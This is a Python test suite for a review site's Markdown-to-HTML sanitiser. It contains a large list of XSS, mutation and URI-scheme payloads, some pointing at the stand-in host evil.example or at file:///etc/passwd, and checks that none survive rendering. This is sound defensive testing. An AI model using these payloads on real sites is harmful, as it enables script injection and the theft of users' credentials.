"""Nothing that a text holds can run, phish or restyle the page: each payload, in each place, under each configuration."""

import itertools
import threading
from html.parser import HTMLParser

import pytest

from reviews.rendering import RenderOptions, render, sanitise
from reviews.rendering.sanitising import ATTRIBUTES, INLINE_IMAGE, MATH_TAGS, TEXT_TAGS

DELIMITERS = {"inline": [["\\(", "\\)"], ["$", "$"]], "block": [["$$", "$$"], ["\\[", "\\]"]]}
OPEN = {
    "goldmark": {
        "renderer": {"unsafe": True},
        "parser": {"attribute": {"block": True}},
        "extensions": {"passthrough": {"enable": True, "delimiters": DELIMITERS}},
    }
}
CONFIGURATIONS = {"default": RenderOptions(), "open": RenderOptions(markup=OPEN), "math": RenderOptions(math="always")}

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror\n=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    '<img src="javascript:alert(1)">',
    "<img srcset='javascript:alert(1) 1x'>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math><annotation-xml encoding='text/html'><img src=x onerror=alert(1)></annotation-xml></math>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<math href='javascript:alert(1)'>x</math>",
    "<math><maction actiontype='statusline#http://x'>x</maction></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><img src=x onerror=alert(1)></template>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'></textarea>",
    "<title><img title='</title><img src=x onerror=alert(1)>'></title>",
    "<xmp><img title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<p style='position:fixed;inset:0'>cover</p>",
    "<div style=background:url(javascript:alert(1))>x</div>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href=' &#1;javascript:alert(1)'>x</a>",
    "<a href=&#106;&#97;vascript&colon;alert(1)>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a onclick=alert(1)>x</a>",
    "<a href=x ping=//evil.example>x</a>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<video autoplay oncanplay=alert(1) src=x></video>",
    "<audio src=x onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<input type=password name=p>",
    "<form action=//evil.example><input name=password><button formaction=javascript:alert(1)>x</button></form>",
    "<select onfocus=alert(1)><option>x</option></select>",
    "<button onclick=alert(1)>x</button>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<isindex action=javascript:alert(1) type=image>",
    "<div hx-get=/admin/ hx-trigger=load>x</div>",
    "<div data-hx-get=/admin/ data-hx-trigger=load>x</div>",
    "<div data-action=delete contenteditable>x</div>",
    "<div is=x-evil slot=y popover>x</div>",
    "<x-evil onclick=alert(1)>x</x-evil>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--<img src='--><img src=x onerror=alert(1)//'>",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml <img src=x onerror=alert(1)>?>",
    "<p/onclick=alert(1)//<p>",
    "<<script>alert(1)//<</script>",
    '"><script>alert(1)</script>',
    "' onmouseover='alert(1)",
    '" onmouseover="alert(1)',
    "\x00<scr\x00ipt>alert(1)</scr\x00ipt>",
    "＜script＞alert(1)＜/script＞",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "javascript&colon;alert(1)",
    "&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61lert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "\\href{javascript:alert(1)}{x}",
    "\\style{position:fixed}{x}",
    "\\html{<img src=x onerror=alert(1)>}",
    "\\text{<img src=x onerror=alert(1)>}",
    "\\unicode{x}<script>alert(1)</script>",
    "{onclick=alert(1)}",
    '{style="position:fixed" onclick="alert(1)"}',
    "{.htmx-x data-hx-get=/admin/ hx-get=/x}",
]

PLACES = [
    "{}",
    "text {} text",
    "# {}",
    "# heading {}",
    "setext {}\n===",
    "- {}",
    "> {}",
    "| a | {} |\n|---|---|\n| {} | b |",
    "[text]({})",
    "[text](<{}>)",
    '[text](x "{}")',
    "[{}](x)",
    "[text][r]\n\n[r]: {}",
    '[text][r]\n\n[r]: x "{}"',
    "![alt]({})",
    "![{}](x.png)",
    '![alt](x.png "{}")',
    "<{}>",
    "`{}`",
    "```{}\ncode\n```",
    "```go {}\ncode\n```",
    "```go\n{}\n```",
    "    {}",
    "$ {} $",
    "$${}$$",
    "\\({}\\)",
    "\\[{}\\]",
    "\\\\({}\\\\)",
    "[^1]\n\n[^1]: {}",
    "[^{}]\n\n[^{}]: x",
    "term {}\n: {}",
    "paragraph\n{}",
    "**{}** _{}_ ~~{}~~",
    '{{{{< figure src="{}" caption="{}" link="{}" >}}}}',
    '{{{{< unknown "{}" >}}}}{}{{{{< /unknown >}}}}',
    "{{{{% unknown %}}}}\n{}\n{{{{% /unknown %}}}}",
    '{{{{< details summary="{}" >}}}}{}{{{{< /details >}}}}',
    '{{{{< highlight "{}" "linenos={},hl_lines={}" >}}}}{}{{{{< /highlight >}}}}',
    '{{{{< youtube id="{}" title="{}" >}}}}',
    '[x]({{{{< ref "{}" >}}}})',
    '[x]({{{{< unknown "{}" >}}}})',
    "{{{{<{}>}}}}",
    "<div>\n\n{}\n\n</div>",
    '<a href="{}">x</a>',
    "<img src='{}' alt=\"{}\">",
    "<p title='{}'>x</p>",
    "<math><mtext>{}</mtext></math>",
    "<table>{}</table>",
    "<!--more-->{}",
    "http://x.example/{}",
]


class _Judge(HTMLParser):
    """Collects what must not be there."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in TEXT_TAGS | MATH_TAGS:
            self.found.append(f"<{tag}>")
        allowed = ATTRIBUTES["*"] | ATTRIBUTES.get(tag, set())
        values = {name: value or "" for name, value in attrs}
        self.found += [f"{tag} {name}" for name in values if name not in allowed]
        self.found += [f"{tag} {name}={value}" for name, value in values.items() if self._runs(tag, name, value)]
        if tag == "input" and (values.get("type") != "checkbox" or "disabled" not in values):
            self.found.append(f"input {values}")

    @staticmethod
    def _runs(tag: str, name: str, value: str) -> bool:
        if (tag, name) == ("img", "src") and INLINE_IMAGE.fullmatch(value):
            return False
        scheme, colon, _ = "".join(value.split()).lower().partition(":")
        if colon and name in ("href", "src", "poster", "cite", "srcset"):
            return scheme in ("javascript", "vbscript", "data", "file", "blob")
        return False


def dangers(html: str) -> list[str]:
    judge = _Judge()
    judge.feed(html)
    judge.close()
    return judge.found


def filled(place: str, payload: str) -> str:
    return place.format(*[payload] * place.count("{}"))


@pytest.mark.parametrize("configuration", list(CONFIGURATIONS))
@pytest.mark.parametrize("place", PLACES)
def test_nothing_executable_survives(place: str, configuration: str) -> None:
    options = CONFIGURATIONS[configuration]
    for payload in PAYLOADS:
        page = render(filled(place, payload), options)
        for part in (page.html, page.toc, page.summary, *(heading.html for heading in page.headings)):
            assert dangers(part) == [], payload


@pytest.mark.parametrize("payload", PAYLOADS)
def test_what_is_clean_stays_as_it_is(payload: str) -> None:
    """A second reading of the output must not find anything new: the root of mutation attacks."""
    for place in (
        "{}",
        "<div>{}</div>",
        "<math><mtext>{}</mtext></math>",
        "<table><tr><td>{}</table>",
        "<p title='{}'>",
    ):
        once = sanitise(filled(place, payload))
        assert sanitise(once) == once
        assert dangers(once) == []


def test_pairs_of_payloads_do_not_help_each_other() -> None:
    options = CONFIGURATIONS["open"]
    for first, second in itertools.product(PAYLOADS[:60:3], PAYLOADS[1:60:3]):
        assert dangers(render(f"{first}\n\n{second}", options).html) == [], (first, second)


def test_front_matter_summaries_are_cleaned_too() -> None:
    for payload in PAYLOADS:
        page = render("x", RenderOptions(markup=OPEN, front_matter_summary=payload))
        assert dangers(page.summary) == []


def test_what_the_resolver_answers_is_escaped() -> None:
    page = render("[a](b) ![c](d)", RenderOptions(resolve_url=lambda url: f'{url}"><script>x</script>'))
    assert dangers(page.html) == []


@pytest.mark.parametrize(
    "kept",
    [
        '<div class="footnotes" role="doc-endnotes"><ol><li id="fn:1">x</li></ol></div>',
        '<input disabled="" type="checkbox">',
        '<details open=""><summary>x</summary>y</details>',
        '<figure><img src="a.png" alt="b"><figcaption>c</figcaption></figure>',
        '<a href="#fn:1" class="footnote-ref" role="doc-noteref">1</a>',
        '<code class="language-go" data-lang="go"><span class="line">x</span></code>',
        '<math display="block"><mfrac><mi>a</mi><mi>b</mi></mfrac></math>',
        '<td align="right" colspan="2">x</td>',
        '<a href="mailto:a@b.c">x</a>',
        "<ruby>漢<rt>한</rt></ruby>",
    ],
)
def test_what_authors_need_passes(kept: str) -> None:
    html = f"<table><tbody><tr>{kept}</tr></tbody></table>" if kept.startswith("<td") else kept
    assert sanitise(html) == html


def test_pages_rendered_at_once_keep_their_own_addresses() -> None:
    wrong: list[str] = []

    def work(name: str) -> None:
        options = RenderOptions(resolve_url=lambda url: f"/{name}/{url}")
        for _ in range(50):
            if f'href="/{name}/x"' not in render("[a](x)", options).html:
                wrong.append(name)

    threads = [threading.Thread(target=work, args=(f"page{index}",)) for index in range(8)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert wrong == []
